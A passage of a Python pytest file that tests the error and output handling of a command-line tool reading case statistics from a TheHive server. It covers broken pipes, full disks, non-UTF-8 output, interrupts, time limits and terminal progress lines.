    hive = CaseSearch(thehive_https, "5", generate(300, seed=2))
    env = {**os.environ, "THEHIVE_APIKEY": API_KEY}
    command = f"'{SCRIPT}' --url {hive.url} --cacerts '{thehive_ca}' --json --top 1000 | head -c 10"

    done = subprocess.run(
        ["bash", "-o", "pipefail", "-c", command], env=env, capture_output=True, text=True, timeout=120
    )

    assert done.returncode == 0, done.stderr
    assert done.stderr == ""


def test_output_to_a_full_disk_is_said_in_one_line_and_the_files_asked_for_are_written(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    with open("/dev/full", "w") as full:
        result = stats(hive.url, "--html", str(tmp_path / "report.html"), stdout=full)

    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"thehive_stats: wrote {tmp_path / 'report.html'}",
        "thehive_stats: Standard output could not be written (No space left on device), so what the command did is not"
        " shown: run it again with its output going to a terminal or a file that can take it.",
    ]
    assert "Spam" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_a_verdict_beyond_ascii_is_printed_escaped_where_standard_output_is_not_utf8(thehive_https, stats, monkeypatch):
    """A host in a C locale: an hour's read is printed, a character the terminal cannot show as an escape."""
    hive = CaseSearch(thehive_https, "5", [case(1, "Légitime ✓", ["alice@example.org"])])
    monkeypatch.setenv("PYTHONIOENCODING", "ascii")

    result = stats(hive.url)

    assert result.returncode == 0, result.stderr
    assert "L\\xe9gitime \\u2713" in result.stdout and result.stderr == ""


def test_ctrl_c_during_the_read_ends_with_a_sentence(thehive_https, interrupted_command):
    hive = CaseSearch(thehive_https, "5", generate(1200, seed=2))
    hive.slow = 2.0

    code, out, err = interrupted_command(SCRIPT, hive.url, lambda: hive.requests)

    assert code == 130
    assert err.strip() == "thehive_stats: stopped before the end of the read; nothing was counted."
    assert out == ""


def test_a_read_cut_by_the_time_limit_says_nothing_was_counted(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", generate(700, seed=2))
    hive.slow = 3.0

    result = stats(hive.url, "--time-limit", "2")

    assert result.returncode == 1
    assert result.stderr.strip().endswith("allow more with --time-limit. Nothing was counted."), result.stderr


@pytest.mark.slow
def test_a_failure_after_the_progress_was_shown_at_a_terminal_starts_its_own_line(thehive_https, thehive_ca):
    hive = CaseSearch(thehive_https, "5", generate(1200, seed=2))
    # The first page comes past the 3 quiet seconds and the progress shows; the time limit cuts the next. The limit
    # leaves the command 2.5 s to start, whatever a busy machine makes of it.
    hive.delays, hive.slow = [0, 3.5], 3.0
    env = {**os.environ, "THEHIVE_APIKEY": API_KEY}
    command = [str(SCRIPT), "--url", hive.url, "--cacerts", str(thehive_ca), "--time-limit", "6"]
    controller, terminal = pty.openpty()
    try:
        done = subprocess.run(command, env=env, stdout=subprocess.DEVNULL, stderr=terminal, timeout=60)
        os.close(terminal)
        printed = b""
        while chunk := _read_or_nothing(controller):
            printed += chunk
    finally:
        os.close(controller)

    assert done.returncode == 1
    lines = printed.decode().replace("\r\n", "\n").split("\n")
    assert "cases read" in lines[0]
    assert lines[1].startswith("thehive_stats: TheHive at "), printed


def _read_or_nothing(fd: int) -> bytes:
    try:
        return os.read(fd, 65536)
    except OSError:  # the terminal's other end is closed
        return b""


@pytest.mark.slow
def test_a_long_read_leaves_its_final_line_where_stderr_is_a_log(thehive_https, stats):
    reports = generate(700, seed=2)
    hive = CaseSearch(thehive_https, "5", reports)
    hive.slow = 1.5  # the count and two pages: past the three quiet seconds

    result = stats(hive.url)

    assert result.returncode == 0, result.stderr
    read = expected(reports)["cases"]
    assert re.fullmatch(rf"thehive_stats: read {read} cases in \d+ s \(\d+ a second\)\n", result.stderr)
